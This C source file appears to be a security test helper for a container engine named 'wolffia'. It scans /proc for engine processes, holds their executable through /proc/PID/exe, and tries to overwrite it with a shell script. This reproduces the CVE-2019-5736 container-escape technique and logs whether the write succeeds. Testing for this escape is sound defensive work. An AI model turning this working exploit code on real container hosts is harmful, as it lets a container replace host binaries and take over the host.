// steal: looks for a process in its pid namespace that executes a program of the engine (CVE-2019-5736), holds that
// program by /proc/PID/exe, and writes to it as soon as nobody executes it any more. Until it is killed. What it does is in
// /report/outcome: "watches", "holds PROGRAM", and for each that it held "written" or "refused: WHY".
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static FILE* report;

static void Say(const char* what, const char* more) {
  fprintf(report, "%s%s\n", what, more);
  fflush(report);
}

// `held`: O_PATH. For a second, in which who executes it may end.
static void Overwrite(int held) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  int file;
  for (int tries = 0; (file = open(path, O_WRONLY)) < 0 && errno == ETXTBSY && tries < 1000; tries++) usleep(1000);
  static const char kText[] = "#!/bin/sh\necho taken over\n";
  if (file < 0)
    Say("refused: open: ", strerror(errno));
  else if (write(file, kText, sizeof kText - 1) < 0)
    Say("refused: write: ", strerror(errno));
  else
    Say("written", "");
  if (file >= 0) close(file);
}

static void LookAt(const char* pid) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int held = open(path, O_PATH | O_CLOEXEC);
  if (held < 0) return;
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  const ssize_t size = readlink(path, target, sizeof target - 1);
  target[size < 0 ? 0 : size] = 0;
  if (strstr(target, "wolffia") != NULL) {
    Say("holds ", target);
    Overwrite(held);
  }
  close(held);
}

int main(void) {
  report = fopen("/report/outcome", "a");
  if (report == NULL) return 2;
  Say("watches", "");
  for (;;) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return 2;
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;)
      if (atoi(entry->d_name) > 0) LookAt(entry->d_name);
    closedir(proc);
  }
}
